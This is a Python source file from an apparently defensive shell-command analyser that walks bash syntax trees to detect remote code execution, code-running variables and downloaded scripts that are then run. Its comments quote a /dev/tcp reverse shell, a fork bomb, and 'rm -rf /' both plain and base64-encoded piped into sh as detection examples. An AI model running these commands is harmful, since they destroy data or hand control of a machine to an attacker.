"""From the AST to CommandFacts: every simple command that would run, in the order it runs.

The walk follows what bash would do: substitutions run before the command that uses them,
pipeline stages see where their input comes from, ``cd`` moves the working directory for the
commands after it, a variable assigned earlier resolves later, and a command that runs another
(``sudo``, ``bash -c``, ``find -exec``…) is followed into. Compound commands are walked with a
copy of the state, and what they may have changed is forgotten after them -- it is unknown.
"""

from __future__ import annotations

import base64
import binascii

from clearance.shellparse.classifier import (
    NETWORK_FILES,
    PATH_CHANGED,
    UNKNOWN_CWD,
    Classifier,
    Nested,
)
from clearance.shellparse.errors import ShellSyntaxError
from clearance.shellparse.expand import (
    BRACE,
    DYNAMIC,
    GLOB,
    INVALID,
    RESOLVED,
    TILDE,
    TRUNCATED,
    Env,
    expand_word,
    word_text,
)
from clearance.shellparse.facts import PathFact, RedirectFact, SimpleCommandFacts
from clearance.shellparse.knowledge import (
    BUILD_DEFINITIONS,
    COMMAND_STRING_VARIABLES,
    DANGEROUS_VARIABLES,
)
from clearance.shellparse.lexer import parse_script
from clearance.shellparse.nodes import (
    AnsiCQuoted,
    ArithCommand,
    ArithFor,
    ArithmeticExpansion,
    BraceGroup,
    Case,
    CommandSubstitution,
    Cond,
    Coproc,
    DoubleQuoted,
    For,
    FunctionDef,
    If,
    Literal,
    ParamExpansion,
    ProcessSubstitution,
    SimpleCommand,
    SingleQuoted,
    Subshell,
    While,
    Word,
)
from clearance.shellparse.paths import inside, resolve
from clearance.shellparse.world import add_selection, ground, mark_trees, selection_of

TYPE_CHECKING = False
if TYPE_CHECKING:
    from clearance.shellparse.nodes import (
        Assignment,
        Command,
        Part,
        Pipeline,
        Redirect,
        Script,
        Statement,
    )
    from clearance.shellparse.resolve import Resolver

#: How many times commands are unwrapped inside each other (``sudo bash -c 'env sh -c …'``).
MAX_UNWRAP = 12
#: Most simple commands one analysis follows (a step budget: each costs resolution and
#: classification); past it the analysis stops with :class:`AnalysisBudget`.
MAX_COMMANDS = 1024  # the corpus's largest script has 54
#: Most words (arguments) one analysis follows, over all its commands.
MAX_WORDS = 8192


class AnalysisBudget(Exception):
    """The analysis spent its budget (the message says which)."""


_SHELLS = frozenset(("sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish"))
#: Variables whose value the shell expands each time it uses them (PS4 before every traced
#: command): a ``$(…)`` in the value is a command that runs then.
_EXPANDED_VARIABLES = frozenset(("PS1", "PS2", "PS4"))
#: Programs that run their arguments (or a file they name) as code: fed by a substitution
#: that fetched from the network, they run code from the network.
_CODE_RUNNERS = _SHELLS | {"eval", "source", ".", "exec"}
#: ``Env.vars`` key of the directory stack ``pushd`` builds (entries joined by NUL).
_DIRSTACK = "\0dirstack"
_WRITE_OPS = {">": "write", ">|": "write", "&>": "write", ">>": "append", "&>>": "append"}


class Scope:
    """Where a command stands: labels, the wrappers it came through, inherited redirections."""

    __slots__ = ("context", "depth", "markers", "redirects", "span", "stdin", "stdin_text", "via")

    def __init__(self) -> None:
        self.context: tuple[str, ...] = ()
        self.via: tuple[str, ...] = ()
        self.depth = 0
        self.markers: frozenset[str] = frozenset()
        #: (start, end, text) to report for commands of an inner text (``bash -c '…'``).
        self.span: tuple[int, int, str] | None = None
        self.redirects: tuple[Redirect, ...] = ()
        self.stdin: str | None = None
        #: The text standard input carries, when known (a here-document, ``echo … |``).
        self.stdin_text: str | None = None

    def derive(self, **changes: object) -> Scope:
        scope = Scope()
        for name in Scope.__slots__:
            setattr(scope, name, changes.get(name, getattr(self, name)))
        return scope

    def with_context(self, label: str) -> Scope:
        return self.derive(context=(*self.context, label))

    def with_marker(self, marker: str) -> Scope:
        return self.derive(markers=self.markers | {marker})


class Extractor:
    """Collects ``SimpleCommandFacts`` for one parsed text."""

    def __init__(
        self,
        text: str,
        workspace: str | None,
        home: str,
        *,
        cwd: str | None = None,
        resolver: Resolver | None = None,
        fold: bool = False,
    ) -> None:
        self.text = text
        self.workspace = workspace
        self.home = home
        self.classifier = Classifier(workspace, home, cwd=cwd, fold=fold)
        #: Reads the file system for the facts (``None``: the text alone is judged).
        self.resolver = resolver
        #: What ``$(find …)`` substitutions select, by the id of their node.
        self.selections: dict[int, list[str]] = {}
        #: Arguments of the part being emitted that are such outputs.
        self.pending_selections: dict[str, list[str]] = {}
        self.out: list[SimpleCommandFacts] = []
        self.made = 0
        self.words = 0
        self.functions: set[str] = set()
        #: Functions whose body changes directory (``f() { cd /x; }``).
        self.moving_functions: set[str] = set()
        #: Files a network command wrote earlier on the line (``curl -o x.sh … && sh x.sh``).
        self.downloaded: set[str] = set()
        #: Build definitions written earlier on the line (``echo … > Makefile && make``).
        self.rewritten_builds: set[str] = set()
        #: The output of command substitutions whose output is known text (``$(echo rm)``),
        #: by the id of their node.
        self.outputs: dict[int, str] = {}

    # --- structure -----------------------------------------------------------------------

    def script(self, script: Script, env: Env, scope: Scope) -> None:
        self.body(script.statements, env, scope)

    def body(self, statements: list[Statement], env: Env, scope: Scope) -> None:
        for statement in statements:
            inner = scope.with_marker("background") if statement.background else scope
            for pipeline in statement.and_or.pipelines:
                self.pipeline(pipeline, env, inner)

    def pipeline(self, pipeline: Pipeline, env: Env, scope: Scope) -> str | None:
        """Walk a pipeline; return what it writes when that is known text."""
        commands = pipeline.commands
        if len(commands) == 1:
            start = len(self.out)
            self.command(commands[0], env, scope)
            return _static_output(self.out[start:], scope.stdin_text)
        stdin_text: str | None = scope.stdin_text
        upstream_network = False
        selected: list[str] | None = None
        for k, command in enumerate(commands):
            stage = scope.with_context("pipeline")
            if k:
                stage = stage.derive(stdin="pipe", stdin_text=stdin_text)
            start = len(self.out)
            self.command(command, env.copy(), stage)
            produced = self.out[start:]
            if k and upstream_network:
                for fact in produced:
                    if "stdin_code" in fact.markers:
                        fact.classes.add("remote_code_exec")
            upstream_network = upstream_network or any("network" in f.classes for f in produced)
            stdin_text = _static_output(produced, stdin_text)
            if k and selected is not None:
                self._read_selection(produced, selected)
            if selected is None and self.resolver is not None:
                self._remember_selection(-1, produced, env)
                selected = self.selections.pop(-1, None)
        return stdin_text

    def _read_selection(self, produced: list[SimpleCommandFacts], patterns: list[str]) -> None:
        """``find … | xargs cat``: what xargs hands its command is what find selected."""
        assert self.resolver is not None
        for fact in produced:
            if any(p.path == "{input}" for p in fact.paths):
                add_selection(fact, "{input}", patterns, self.classifier, self.resolver)

    def command(self, command: Command, env: Env, scope: Scope) -> None:
        if isinstance(command, SimpleCommand):
            self.simple(command, env, scope)
            return
        inner = scope
        if command.redirects:
            inner = self._inherit_redirects(command.redirects, env, scope)
        if isinstance(command, BraceGroup):
            self.body(command.body, env, inner)
        elif isinstance(command, Subshell):
            self.body(command.body, env.copy(), inner.with_context("subshell"))
        elif isinstance(command, FunctionDef):
            self.functions.add(command.name)
            body = inner.with_context(f"function:{command.name}").with_marker("function_body")
            local = env.copy()
            self.command(command.body, local, body)
            if local.cwd != env.cwd:
                # calling it moves the caller: where to is known only when it runs
                self.moving_functions.add(command.name)
        elif isinstance(command, Coproc):
            self.command(command.command, env.copy(), inner.with_marker("background"))
        elif isinstance(command, Cond):
            self._cond(command, env, inner)
        elif isinstance(command, ArithCommand):
            self._arith_command(command.arith, "((", env, inner)
        else:
            self._compound(command, env, inner)

    def _compound(self, command: Command, env: Env, scope: Scope) -> None:
        """if / while / until / for / case: walk every branch, then forget their changes."""
        before = env.copy()
        local = env.copy()
        if isinstance(command, If):
            for condition, body in command.branches:
                self.body(condition, local, scope.with_context("condition"))
                self.body(body, local, scope.with_context("branch"))
            if command.else_body is not None:
                self.body(command.else_body, local, scope.with_context("branch"))
        elif isinstance(command, While):
            self.body(command.condition, local, scope.with_context("condition"))
            self.body(command.body, local, scope.with_context("loop"))
        elif isinstance(command, For):
            for word in command.items or ():
                self.word(word, local, scope)
            local.vars.pop(command.variable, None)
            self.body(command.body, local, scope.with_context("loop"))
        elif isinstance(command, ArithFor):
            self._arith_command(command.header, "for ((", local, scope)
            self.body(command.body, local, scope.with_context("loop"))
        elif isinstance(command, Case):
            self.word(command.subject, local, scope)
            for item in command.items:
                for pattern in item.patterns:
                    self.word(pattern, local, scope)
                self.body(item.body, local, scope.with_context("branch"))
        _forget_changes(env, before, local)

    def _inherit_redirects(self, redirects: list[Redirect], env: Env, scope: Scope) -> Scope:
        for redirect in redirects:
            if redirect.target is not None:
                self.word(redirect.target, env, scope)
        stdin, stdin_text = _stdin_of(redirects, env, scope.stdin, scope.stdin_text)
        return scope.derive(
            redirects=scope.redirects + tuple(redirects), stdin=stdin, stdin_text=stdin_text
        )

    # --- words: the commands inside them run first -----------------------------------------

    def word(self, word: Word | None, env: Env, scope: Scope) -> None:
        if word is not None:
            self.parts(word.parts, env, scope, word)

    def parts(self, parts: list[Part], env: Env, scope: Scope, word: Word | None) -> None:
        for part in parts:
            if isinstance(part, CommandSubstitution):
                self._substitution(part, env, scope, word, "substitution")
            elif isinstance(part, ProcessSubstitution):
                self._substitution(part, env, scope, word, "process_substitution")
            elif isinstance(part, DoubleQuoted):
                self.parts(part.parts, env, scope, word)
            elif isinstance(part, ParamExpansion):
                if part.arg is not None:
                    self.parts(part.arg.parts, env, scope, word)
                if part.subscript is not None:
                    self._arith(part.subscript, env, scope, word)
            elif isinstance(part, ArithmeticExpansion):
                self._arith(part, env, scope, word)

    def _arith(self, arith: ArithmeticExpansion, env: Env, scope: Scope, word: Word | None) -> None:
        for sub in arith.substitutions:
            self._substitution(sub, env, scope, word, "substitution")

    def _substitution(
        self,
        part: CommandSubstitution | ProcessSubstitution,
        env: Env,
        scope: Scope,
        word: Word | None,
        label: str,
    ) -> None:
        inner = scope.with_context(label).derive(stdin=None, stdin_text=None, redirects=())
        body = part.body
        if body is not None and body.origin is not None and word is not None:
            inner = inner.derive(span=scope.span or (word.start, word.end, word.text))
        if body is None:
            error = part.error if isinstance(part, CommandSubstitution) else None
            fact = self._new_fact([], None, inner, word)
            fact.markers.add("parse_error")
            fact.classes.add("unknown")
            fact.text = part.text
            if error:
                fact.context = [*fact.context, f"error: {error}"]
            self.out.append(fact)
            return
        statements = body.statements
        if (
            isinstance(part, CommandSubstitution)
            and len(statements) == 1
            and not statements[0].background
            and len(statements[0].and_or.pipelines) == 1
        ):
            start = len(self.out)
            output = self.pipeline(statements[0].and_or.pipelines[0], env.copy(), inner)
            if output is not None:
                self.outputs[id(part)] = output
            else:
                self._remember_selection(id(part), self.out[start:], env)
            return
        self.body(statements, env.copy(), inner)

    def _remember_selection(self, key: int, produced: list[SimpleCommandFacts], env: Env) -> None:
        """A substitution (or a pipeline stage) that is a ``find`` prints the files it
        selects: who reads its output reads those."""
        finds = [f for f in produced if f.program == "find" and not f.via]
        if len(finds) == 1 and not any(f.via for f in produced[1:]):
            patterns = selection_of(finds[0], env.cwd, self.home)
            if patterns:
                self.selections[key] = patterns

    def _selected_words(self, words: list[Word]) -> dict[str, list[str]]:
        """Arguments that are the output of a ``$(find …)``, with what it selects."""
        out: dict[str, list[str]] = {}
        for word in words:
            parts = word.parts
            if len(parts) == 1 and isinstance(parts[0], DoubleQuoted):
                parts = parts[0].parts
            if len(parts) == 1 and isinstance(parts[0], CommandSubstitution):
                found = self.selections.get(id(parts[0]))
                if found is not None:
                    out[parts[0].text] = found
        return out

    def _static_word(self, word: Word) -> tuple[list[str], int] | None:
        """The fields of a word that is one command substitution with known output
        (``$(echo rm)``, ``"$(printf .env)"``): bash strips the trailing newlines and, when
        unquoted, splits the rest at blanks."""
        parts = word.parts
        quoted = False
        if len(parts) == 1 and isinstance(parts[0], DoubleQuoted):
            parts = parts[0].parts
            quoted = True
        if len(parts) != 1 or not isinstance(parts[0], CommandSubstitution):
            return None
        output = self.outputs.get(id(parts[0]))
        if output is None:
            return None
        text = output.rstrip("\n")
        if quoted:
            return [text], RESOLVED
        flag = RESOLVED | (GLOB if any(c in text for c in "*?[") else 0)
        return text.split(), flag

    def _cond(self, command: Cond, env: Env, scope: Scope) -> None:
        argv = ["[["]
        flags = [0]
        for item in command.items:
            if isinstance(item, str):
                argv.append(item)
                flags.append(0)
            else:
                self.word(item, env, scope)
                text, flag = word_text(item, env)
                argv.append(text)
                flags.append(flag)
        argv.append("]]")
        flags.append(0)
        fact = self._new_fact(argv, None, scope, None)
        fact.program = fact.program_raw = "[["
        fact.classes.add("test")
        _flag_markers(fact, flags)
        self.out.append(fact)

    def _arith_command(self, arith: ArithmeticExpansion, name: str, env: Env, scope: Scope) -> None:
        self._arith(arith, env, scope, None)
        fact = self._new_fact([name, arith.expression, "))"], None, scope, None)
        fact.program = fact.program_raw = name
        fact.classes.add("test")
        if arith.substitutions or arith.parameters:
            fact.markers.add("dynamic_argument")
        self.out.append(fact)

    # --- simple commands -----------------------------------------------------------------

    def _new_fact(
        self, argv: list[str], command: SimpleCommand | None, scope: Scope, word: Word | None
    ) -> SimpleCommandFacts:
        if scope.span is not None:
            start, end, text = scope.span
        elif command is not None:
            start, end = command.start, command.end
            text = self.text[start:end]
        elif word is not None:
            start, end, text = word.start, word.end, word.text
        else:
            start, end, text = 0, len(self.text), self.text
        self.made += 1
        if self.made > MAX_COMMANDS:
            raise AnalysisBudget(f"more than {MAX_COMMANDS} commands: the analysis stops there")
        fact = SimpleCommandFacts(argv, text, start, end)
        fact.via = list(scope.via)
        fact.context = list(scope.context)
        fact.depth = scope.depth
        fact.markers.update(scope.markers)
        return fact

    def simple(self, command: SimpleCommand, env: Env, scope: Scope) -> None:
        for assignment in command.assignments:
            self._assignment_words(assignment, env, scope)
        # Substitutions run first; remember whether one fetched from the network, and whether
        # it fed the program's name (``$(curl …)``) or its arguments.
        fetched_program = fetched_args = False
        for k, word in enumerate(command.words):
            start = len(self.out)
            self.word(word, env, scope)
            if any("network" in f.classes for f in self.out[start:]):
                fetched_program = fetched_program or k == 0
                fetched_args = True
        for redirect in command.redirects:
            start = len(self.out)
            self.word(redirect.target, env, scope)
            if redirect.heredoc is not None:
                hd_scope = scope.derive(span=scope.span or (redirect.start, redirect.end, ""))
                self.parts(redirect.heredoc.parts, env, hd_scope, None)
            if redirect.fd in (None, "0") and redirect.op in ("<", "<<<", "<<", "<<-"):
                fetched_args = fetched_args or any("network" in f.classes for f in self.out[start:])

        argv: list[str] = []
        flags: list[int] = []
        # After ``IFS=…`` the fields a variable splits into are not those the analysis
        # would compute: a variable's value is then as unknown as the variable.
        unsplit = DYNAMIC if "IFS" in env.vars else 0
        self.words += len(command.words)
        if self.words > MAX_WORDS:
            raise AnalysisBudget(f"more than {MAX_WORDS} words: the analysis stops there")
        for word in command.words:
            static = self._static_word(word)
            fields, flag = static if static is not None else expand_word(word, env)
            if flag & RESOLVED:
                flag |= unsplit
            argv.extend(fields)
            flags.extend([flag] * len(fields))

        if argv and not flags[0] & DYNAMIC and argv[0] in self.functions:
            if f"function:{argv[0]}" in scope.context:
                # a function calling itself: unbounded processes (``:(){ :|:& };:``)
                fact = self._new_fact(argv, command, scope, None)
                fact.program = fact.program_raw = argv[0]
                fact.classes.add("process_control")
                self.out.append(fact)
            if argv[0] in self.moving_functions:
                env.cwd = None
            return  # a call of a function defined above: its body was analysed there

        fact = self._new_fact(argv, command, scope, None)
        if env.cwd is None:
            fact.markers.add("unknown_cwd")
        if not command.words:
            self._statement_assignments(command.assignments, env, fact, scope)
            if not command.redirects:
                return
        else:
            self._prefix_assignments(command.assignments, env, fact, scope)
        redirects = (*scope.redirects, *command.redirects)
        stdin, stdin_text = _stdin_of(command.redirects, env, scope.stdin, scope.stdin_text)
        fact.stdin = stdin
        fact.stdin_text = stdin_text
        self.classifier.glob_words = frozenset(
            text
            for r in redirects
            if r.target is not None
            for text, flag in [word_text(r.target, env)]
            if flag & GLOB and not flag & DYNAMIC
        )
        self._redirect_facts(fact, redirects, env)
        if not argv:
            fact.classes.add("write" if fact.paths else "read_only")
            self.out.append(fact)
            self._ground(fact, env)
            return
        self.pending_selections = self._selected_words(command.words) if self.selections else {}
        self.emit(fact, argv, flags, env, scope, stdin_text)
        runs_code = (
            fact.program in _CODE_RUNNERS
            or "code_exec" in fact.classes
            or "stdin_code" in fact.markers
        )
        connected = any(
            r.target is not None and r.target.startswith(NETWORK_FILES) for r in fact.redirects
        )
        if fetched_program or ((fetched_args or connected) and runs_code):
            # code from the network: a fetch feeding it, or a shell wired to a socket
            # (``bash -i >& /dev/tcp/host/port 0>&1``)
            fact.classes.update(("code_exec", "remote_code_exec"))
        _builtin_effects(fact, argv, flags, env, env.home)

    def emit(
        self,
        fact: SimpleCommandFacts,
        argv: list[str],
        flags: list[int],
        env: Env,
        scope: Scope,
        stdin_text: str | None,
        module: bool = False,
    ) -> None:
        """Classify ``fact``, record it, then analyse every command it runs in turn."""
        _flag_markers(fact, flags)
        classifier = self.classifier
        classifier.glob_words = classifier.glob_words | frozenset(
            a for a, f in zip(argv, flags, strict=False) if f & GLOB and not f & DYNAMIC
        )
        classifier.cwd = env.cwd
        nested = classifier.classify(fact, argv, flags, env, module)
        if fact.program == "shopt" and len(argv) > 2 and argv[1] in ("-s", "-u"):
            change = set(argv[2:]) & {"globstar", "dotglob", "nocaseglob", "extglob"}
            if argv[1] == "-s":
                classifier.shell_options |= change
            else:
                classifier.shell_options -= change
        self.out.append(fact)
        self._ground(fact, env)
        self._downloads(fact)
        if "stdin_code" in fact.markers and stdin_text is not None and fact.program in _SHELLS:
            nested.append(Nested(f"{fact.program} < stdin", shell=stdin_text))
        for request in nested:
            self._nested(fact, request, env, scope)

    def _ground(self, fact: SimpleCommandFacts, env: Env) -> None:
        """Check the part's paths against the machine (``world.ground``), when resolving."""
        classifier = self.classifier
        mark_trees(fact)
        classifier.cwd = env.cwd
        if fact.classes & {"build", "test"}:
            # a build or a test writes where it runs: ``make -C /tmp/x``, ``cd /x && make``
            moved = [p for p in fact.paths if p.source == "cwd"]
            where = moved[-1].resolved if moved else env.cwd
            fact.paths.append(
                PathFact(
                    moved[-1].path if moved else ".",
                    where,
                    "write",
                    inside(where, classifier.workspace),
                    "cwd",
                    why="a build or test writes in the directory it runs in",
                )
            )
        if self.resolver is not None:
            selections = self.pending_selections
            self.pending_selections = {}
            ground(fact, classifier, self.resolver)
            for written, patterns in selections.items():
                if any(p.path == written for p in fact.paths):
                    add_selection(fact, written, patterns, classifier, self.resolver)
        classifier.glob_words = frozenset()

    def _downloads(self, fact: SimpleCommandFacts) -> None:
        """Track what the line writes that later commands run: a download executed
        (``curl -o x.sh … && sh x.sh``), a build definition rewritten before a build
        (``echo … > Makefile && make``)."""
        for path in fact.paths:
            if path.resolved is None:
                continue
            if path.access == "write":
                if "network" in fact.classes:
                    self.downloaded.add(path.resolved)
                if path.resolved.rsplit("/", 1)[-1] in BUILD_DEFINITIONS:
                    self.rewritten_builds.add(path.resolved)
            elif path.access == "exec" and path.resolved in self.downloaded:
                fact.classes.update(("code_exec", "remote_code_exec"))
        if self.rewritten_builds and fact.classes & {"build", "test"}:
            fact.classes.add("code_exec")

    def _nested(self, fact: SimpleCommandFacts, request: Nested, env: Env, scope: Scope) -> None:
        if scope.depth + 1 > MAX_UNWRAP:
            fact.markers.add("depth_limit")
            return
        inner = scope.derive(
            via=(*scope.via, request.label),
            depth=scope.depth + 1,
            span=(fact.start, fact.end, fact.text),
            redirects=(),
        )
        if request.markers:
            inner = inner.derive(markers=inner.markers | frozenset(request.markers))
        if request.context is not None:
            inner = inner.with_context(request.context)
            if request.context.startswith("remote"):
                inner = inner.with_marker("remote")
        if request.cwd is not None:
            env = env.copy()
            env.cwd = None if request.cwd == UNKNOWN_CWD else request.cwd
        if request.argv is not None:
            flags = request.flags if request.flags is not None else [0] * len(request.argv)
            if not request.argv:
                return
            if request.argv[0] in self.functions and not flags[0] & DYNAMIC:
                return
            child = self._new_fact(list(request.argv), None, inner, None)
            child.markers.update(request.markers)
            child.stdin = fact.stdin
            if env.cwd is None:
                child.markers.add("unknown_cwd")
            self.emit(child, list(request.argv), list(flags), env, inner, None, request.module)
            if request.label in ("builtin", "command") and request.cwd is None:
                # ``builtin cd /x``, ``command cd /x``: the shell itself moves
                _builtin_effects(child, list(request.argv), list(flags), env, env.home)
            return
        assert request.shell is not None
        try:
            script = parse_script(request.shell, depth=inner.depth, origin=request.label)
        except ShellSyntaxError as exc:
            child = self._new_fact([], None, inner, None)
            child.markers.add("depth_limit" if exc.code == "depth_limit" else "parse_error")
            child.classes.add("unknown")
            self.out.append(child)
            return
        except RecursionError:
            fact.markers.add("depth_limit")
            return
        self.body(script.statements, env.copy(), inner.derive(stdin=None, stdin_text=None))

    # --- assignments and redirections -----------------------------------------------------

    def _assignment_words(self, assignment: Assignment, env: Env, scope: Scope) -> None:
        self.word(assignment.value, env, scope)
        for element in assignment.array or ():
            self.word(element, env, scope)
        if assignment.subscript is not None:
            self._arith(assignment.subscript, env, scope, None)

    def _prefix_assignments(
        self, assignments: list[Assignment], env: Env, fact: SimpleCommandFacts, scope: Scope
    ) -> None:
        for assignment in assignments:
            fact.assignments.append(assignment.name)
            self._dangerous_assignment(assignment, env, fact, scope)

    def _statement_assignments(
        self, assignments: list[Assignment], env: Env, fact: SimpleCommandFacts, scope: Scope
    ) -> None:
        for assignment in assignments:
            name = assignment.name
            value = None
            if assignment.value is not None and assignment.subscript is None:
                static = self._static_word(assignment.value)
                text, flag = (
                    (" ".join(static[0]), 0)
                    if static is not None
                    else word_text(assignment.value, env)
                )
                if not flag & (DYNAMIC | GLOB):
                    value = env.vars.get(name, "") + text if assignment.append else text
            if value is None:
                env.vars.pop(name, None)
            else:
                env.vars[name] = value
            if name == "HOME":
                # ``~`` and a bare ``cd`` now go there; an unknown value leaves them unknown
                # (a ``$`` in a path makes it unresolvable)
                env.home = value if value else "${HOME}"
            self._dangerous_assignment(assignment, env, fact, scope, persistent=True)

    def _dangerous_assignment(
        self,
        assignment: Assignment,
        env: Env,
        fact: SimpleCommandFacts,
        scope: Scope,
        persistent: bool = False,
    ) -> None:
        name = assignment.name
        if name == "PATH":
            fact.markers.add("path_modified")
            if persistent:
                env.vars[PATH_CHANGED] = "1"
        if name not in DANGEROUS_VARIABLES:
            return
        fact.markers.add("env_code")
        fact.classes.add("code_exec")
        if name in COMMAND_STRING_VARIABLES and assignment.value is not None:
            text, flag = word_text(assignment.value, env)
            text = text.strip().lstrip("|")  # LESSOPEN='|cmd %s': the leading bar is syntax
            if not flag & DYNAMIC and text:
                self._nested(fact, Nested(f"${name}", shell=text), env, scope)
        elif name in _EXPANDED_VARIABLES and assignment.value is not None:
            # expanded again each time it is used: the substitutions in it run then
            text, flag = word_text(assignment.value, env)
            if not flag & DYNAMIC and "$" in text:
                quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
                self._nested(fact, Nested(f"${name}", shell=": " + quoted), env, scope)
        if persistent:
            env.vars.setdefault("__CLEARANCE_ENV_CODE__", name)

    def _redirect_facts(
        self, fact: SimpleCommandFacts, redirects: tuple[Redirect, ...], env: Env
    ) -> None:
        for redirect in redirects:
            op = redirect.op
            if redirect.heredoc is not None:
                fact.redirects.append(RedirectFact(op, redirect.fd, "heredoc", None))
                continue
            assert redirect.target is not None
            target, flag = word_text(redirect.target, env)
            dynamic = bool(flag & DYNAMIC)
            if op == "<<<":
                fact.redirects.append(RedirectFact(op, redirect.fd, "herestring", None))
                continue
            if op in (">&", "<&") and (target.isdigit() or target == "-"):
                mode = "close" if target == "-" else "duplicate"
                fact.redirects.append(RedirectFact(op, redirect.fd, mode, target))
                continue
            if op == "<":
                mode = "read"
            elif op == "<>":
                mode = "write"
            else:
                mode = _WRITE_OPS.get(op, "write")
            fact.redirects.append(RedirectFact(op, redirect.fd, mode, target))
            if dynamic:
                fact.markers.add("dynamic_argument")
            self.classifier.add_path(
                fact,
                target,
                "read" if mode == "read" else "write",
                env,
                source="redirect",
                dynamic=dynamic,
            )
        if "__CLEARANCE_ENV_CODE__" in env.vars:
            fact.markers.add("env_code")


# --- helpers --------------------------------------------------------------------------------


def _flag_markers(fact: SimpleCommandFacts, flags: list[int]) -> None:
    combined = 0
    for flag in flags[1:]:
        combined |= flag
    first = flags[0] if flags else 0
    if combined & DYNAMIC:
        fact.markers.add("dynamic_argument")
    if (combined | first) & GLOB:
        fact.markers.add("glob")
    if (combined | first) & TILDE:
        fact.markers.add("tilde")
    if (combined | first) & BRACE:
        fact.markers.add("brace_expansion")
    if (combined | first) & TRUNCATED:
        fact.markers.add("truncated")
    if (combined | first) & INVALID:
        fact.markers.add("invalid_substitution")


def _stdin_of(
    redirects: list[Redirect] | tuple[Redirect, ...],
    env: Env,
    stdin: str | None,
    stdin_text: str | None,
) -> tuple[str | None, str | None]:
    for redirect in redirects:
        if redirect.fd not in (None, "0"):
            continue
        if redirect.heredoc is not None:
            stdin = "heredoc"
            stdin_text = _static_parts(redirect.heredoc.parts)
        elif redirect.op == "<<<" and redirect.target is not None:
            stdin = "herestring"
            text, flag = word_text(redirect.target, env)
            stdin_text = None if flag & DYNAMIC else text + "\n"
        elif redirect.op in ("<", "<>"):
            stdin = "file"
            stdin_text = None
    return stdin, stdin_text


def _static_parts(parts: list[Part]) -> str | None:
    out: list[str] = []
    for part in parts:
        if isinstance(part, (Literal, SingleQuoted, AnsiCQuoted)):
            out.append(part.text)
        else:
            return None
    return "".join(out)


def _static_output(produced: list[SimpleCommandFacts], stdin_text: str | None) -> str | None:
    """What a pipeline stage writes, when it is plain text transformed in a known way.

    ``echo 'rm -rf /' | sh`` and ``echo cm0gLXJmIC8= | base64 -d | sh`` both hand ``sh`` a
    text the analysis can read; anything else is unknown (``None``).
    """
    if len(produced) != 1:
        return None
    fact = produced[0]
    if "dynamic_argument" in fact.markers or any(
        r.mode not in ("heredoc", "herestring", "duplicate") for r in fact.redirects
    ):
        return None
    if fact.stdin in ("heredoc", "herestring"):
        stdin_text = fact.stdin_text
    argv = fact.argv
    program = fact.program
    if program == "echo":
        words = argv[1:]
        newline = True
        while words and words[0] in ("-n", "-e", "-E", "-ne", "-en"):
            newline = newline and "n" not in words[0]
            words = words[1:]
        return " ".join(words) + ("\n" if newline else "")
    if program == "printf" and len(argv) >= 2:
        return _printf(argv[1], argv[2:])
    if stdin_text is None:
        return None
    if program == "cat" and len(argv) == 1:
        return stdin_text
    if program == "base64" and any(a in ("-d", "--decode", "-D") for a in argv[1:]):
        try:
            return base64.b64decode("".join(stdin_text.split()), validate=False).decode(
                "utf-8", "replace"
            )
        except (binascii.Error, ValueError):
            return None
    if program == "rev" and len(argv) == 1:
        return "\n".join(line[::-1] for line in stdin_text.rstrip("\n").split("\n")) + "\n"
    if program == "xxd" and "-r" in argv and "-p" in argv:
        try:
            return bytes.fromhex("".join(stdin_text.split())).decode("utf-8", "replace")
        except ValueError:
            return None
    return None


_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\", "a": "\a", "b": "\b", "e": "\x1b"}


def _unescape(text: str) -> str:
    """printf's backslash escapes: ``\\n``, ``\\t``, ``\\xHH``, ``\\NNN`` (octal)."""
    out: list[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch != "\\" or i + 1 == len(text):
            out.append(ch)
            i += 1
            continue
        nxt = text[i + 1]
        if nxt in _ESCAPES:
            out.append(_ESCAPES[nxt])
            i += 2
        elif nxt == "x":
            digits = "".join(c for c in text[i + 2 : i + 4] if c in "0123456789abcdefABCDEF")
            out.append(chr(int(digits, 16)) if digits else "\\x")
            i += 2 + len(digits)
        elif nxt in "01234567":
            digits = "".join(c for c in text[i + 1 : i + 4] if c in "01234567")
            out.append(chr(int(digits, 8)))
            i += 1 + len(digits)
        else:
            out.append(ch + nxt)
            i += 2
    return "".join(out)


def _printf(template: str, args: list[str]) -> str | None:
    """What ``printf TEMPLATE ARGS…`` writes, for ``%s``/``%b``/``%%`` templates (the
    template is reused while arguments remain, as printf does); ``None`` for others."""
    body = template.replace("%%", "\0")
    specs = [piece[:1] for piece in body.split("%")[1:]]
    if any(spec not in ("s", "b") for spec in specs):
        return None
    out: list[str] = []
    queue = list(args)
    for _ in range(64):
        text = _unescape(body)
        at = text.find("%")
        while at >= 0:
            value = queue.pop(0) if queue else ""
            if text[at + 1] == "b":
                value = _unescape(value)
            text = text[:at] + value + text[at + 2 :]
            at = text.find("%", at + len(value))
        out.append(text.replace("\0", "%"))
        if not queue or not specs:
            break
    return "".join(out)


def _forget_changes(env: Env, before: Env, after: Env) -> None:
    """After a branch or loop, what it may have changed is unknown."""
    for name in set(after.vars) | set(before.vars):
        if after.vars.get(name) != before.vars.get(name):
            env.vars.pop(name, None)
            if name in ("PATH", PATH_CHANGED, "__CLEARANCE_ENV_CODE__"):
                env.vars[name] = after.vars.get(name) or before.vars.get(name) or ""
    if after.cwd != before.cwd:
        env.cwd = None


def _builtin_effects(
    fact: SimpleCommandFacts, argv: list[str], flags: list[int], env: Env, home: str
) -> None:
    """Builtins that change the state later commands run in: cd, export, unset…"""
    program = fact.program
    if program in ("cd", "pushd"):
        operands = [a for a in argv[1:] if not a.startswith("-") or a == "-"]
        before = env.cwd
        if program == "pushd" and operands and operands[0][:1] in ("+", "-"):
            env.cwd = None  # rotating the stack
        elif not operands:
            env.cwd = home if program == "cd" and "$" not in home else None
        elif operands[0] == "-" or any(f & (DYNAMIC | GLOB) for f in flags[1:]):
            env.cwd = None
        elif "CDPATH" in env.vars and not operands[0].startswith(("/", ".")):
            env.cwd = None  # CDPATH may send a relative name elsewhere
        else:
            env.cwd = resolve(operands[0], env.cwd, home)
        if program == "pushd":
            stack = env.vars.get(_DIRSTACK)
            if before is None:
                env.vars.pop(_DIRSTACK, None)
            else:
                env.vars[_DIRSTACK] = before + ("\0" + stack if stack else "")
    elif program == "popd":
        stack = env.vars.get(_DIRSTACK)
        operands = [a for a in argv[1:] if a != "-n"]
